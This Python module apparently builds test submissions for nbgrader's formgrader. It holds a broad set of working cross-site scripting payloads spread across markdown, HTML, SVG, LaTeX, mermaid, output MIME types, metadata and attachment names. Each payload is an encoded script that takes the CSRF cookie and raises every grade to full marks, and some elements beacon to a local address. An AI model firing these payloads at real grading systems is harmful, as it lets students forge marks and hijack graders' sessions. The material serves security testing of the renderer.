"""Submissions that would act in the browser of whoever opens them: one for each way in.

Every script raises all marks of its own submission through formgrader, and says that it ran.
"""

from __future__ import annotations

import base64
import html
import json
from typing import Any

RAISE = """
window.acted = true;
fetch(base_url + '/api/grades?submission_id=' + submission_id).then(r => r.json()).then(
  all => all.forEach(g => fetch(base_url + '/api/grade/' + g.id, {
    method: 'PUT',
    headers: {'X-CSRFToken': getCookie('_xsrf'), 'Content-Type': 'application/json'},
    body: JSON.stringify({manual_score: g.max_score})})));
"""
DO = f"eval(atob('{base64.b64encode(RAISE.encode()).decode()}'))"  # fits into any attribute
OUT = "http://127.0.0.1:9/seen"  # where nobody listens: asked for is what counts
HTML = (
    f"<script>{DO}</script><img src=x onerror={DO}><svg onload={DO}></svg><iframe srcdoc="
    f'"<script>parent.{DO}</script>"></iframe><a id=sigmoid_away href="javascript:{DO}">x</a>'
    f"<img src={OUT}><link rel=stylesheet href={OUT}><form action={OUT}><input class=score></form>"
    f"<style>@import '{OUT}'; body {{background: url({OUT})}}</style><base href={OUT}>"
    f"<details open ontoggle={DO}>x</details><object data={OUT}></object><embed src={OUT}>"
    "<button class='full-credit nbgrader_cell' id=test_sigmoid>more</button>"
)
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{DO}"><script>{DO}</script></svg>'
TEX = rf"$\href{{javascript:{DO}}}{{x}} \cssId{{test_sigmoid}}{{x}} \class{{score}}{{x}}$"
HANDLER = f"1 onload={DO} onerror={DO} x="
BREAK = f"'\"><script>{DO}</script>"
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
    "rkJggg=="
)
PICTURES = {"image/png": PNG, "image/jpeg": "/9j/" + "A" * 40}

MARKDOWN = f"""
# test_sigmoid

test_model
===

sigmoid-comment
---

{HTML}

x {HTML}

[link](javascript:{DO}) [other](/formgrader/?path=submitted) ![]({OUT}) ![][away] <{OUT}> {OUT}
<javascript:{DO}> [![x](attachment:picture.png)](javascript:{DO})

[away]: {OUT} "x"

{TEX}

$$ \\href{{{OUT}}}{{x}} <img src=x onerror={DO}> $$

```mermaid
flowchart LR; A["<img src=x onerror={DO}>"]; click A href "javascript:{DO}"
```

| a | b |
|---|---|
| <img src=x onerror={DO}> | [x](javascript:{DO}) |

- [ ] {HTML}
- > # test_propagate
  > {HTML}

&lt;script&gt;{DO}&lt;/script&gt; <![CDATA[<script>{DO}</script>]]> <!-- --><script>{DO}</script>
<?php ?><script>{DO}</script>
"""


def mime_content(mime: str) -> Any:
    """The worst a value of this type can be."""
    known: dict[str, Any] = {
        **{picture: value + BREAK for picture, value in PICTURES.items()},
        "image/svg+xml": SVG,
        "text/latex": TEX + HTML,
        "text/markdown": MARKDOWN,
        "application/javascript": RAISE,
        "application/pdf": BREAK,
        "application/vnd.jupyter.widget-view+json": {"model_id": "x", "y": f"</script>{HTML}"},
        "text/vnd.mermaid": f"</pre>{HTML}",
    }
    return known.get(mime, HTML)


def metadata_of(keys: list[str]) -> dict[str, Any]:
    """Every key with something that acts, at every level at which it is looked for."""
    flat: dict[str, Any] = dict.fromkeys(keys, HANDLER)
    flat |= {"isolated": True, "filenames": dict.fromkeys(PICTURES, BREAK), "tags": [HANDLER]}
    return {**flat, **{mime: dict(flat) for mime in ("text/html", *PICTURES)}}


def publishing(data: dict[str, Any], metadata: dict[str, Any]) -> str:
    """A cell that shows this, past everything that IPython's own objects would check."""
    told = json.dumps(json.dumps([data, metadata]))
    return f"import json\nget_ipython().display_pub.publish(*json.loads({told}))"


def code(source: str, **metadata: Any) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "source": source,
        "metadata": metadata,
        "id": "x",
        "outputs": [],
        "execution_count": None,
    }


def text(source: str, kind: str = "markdown", **others: Any) -> dict[str, Any]:
    return {"cell_type": kind, "source": source, "metadata": {}, "id": "x", **others}


def submissions(mimes: list[str], keys: list[str]) -> dict[str, list[dict[str, Any]]]:
    """The cells that are added to an otherwise honest notebook, by the student's name."""
    metadata = metadata_of(keys)
    made = {f"mime-{mime.replace('/', '-')}": [mime] for mime in mimes}
    cells = {
        name: [code(publishing({m: mime_content(m) for m in found}, metadata))]
        for name, found in made.items()
    }
    for mime, value in PICTURES.items():
        name = f"metadata-{mime.replace('/', '-')}"
        cells[name] = [code(publishing({mime: value}, {key: metadata[key]})) for key in metadata]
    both = {"image/png": PNG, "text/html": HTML, "text/plain": HTML, "text/markdown": MARKDOWN}
    attached = {
        "picture.png": {"image/png": PNG + BREAK, "text/html": html.escape(HTML)},
        "other.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
        BREAK: {"image/png": PNG},
    }
    shown = f"\n\n![x](attachment:picture.png) ![x](attachment:{BREAK}) ![x](attachment:none)"
    clicks = "x nbgrader_cell score full-credit mark-graded"
    return {
        **cells,
        "everything": [code(publishing(both, metadata), tags=[clicks, BREAK], collapsed=HANDLER)],
        "streams": [code(f"import sys\nprint({HTML!r})\nprint({HTML!r}, file=sys.stderr)")],
        "errors": [code(f"raise type('E', (Exception,), {{'__name__': 'x'}})({HTML!r})")],
        "magics": [code(f"%%javascript\n{RAISE}"), code(f"%%html\n{HTML}"), code(f"%%svg\n{SVG}")],
        "text": [text(MARKDOWN, attachments=attached)],
        "text-html": [text(HTML), text("# test_sigmoid")],
        "attachments": [text(shown, attachments=attached)],
        "raw": [
            text(HTML, "raw"),
            {**text(HTML, "raw"), "metadata": {"raw_mimetype": "text/html", "format": BREAK}},
        ],
        "unknown": [text(HTML, BREAK), {**code("1"), "id": BREAK, "execution_count": BREAK}],
        f"<img src=x onerror={DO[:60]}>": [code("1")],
    }
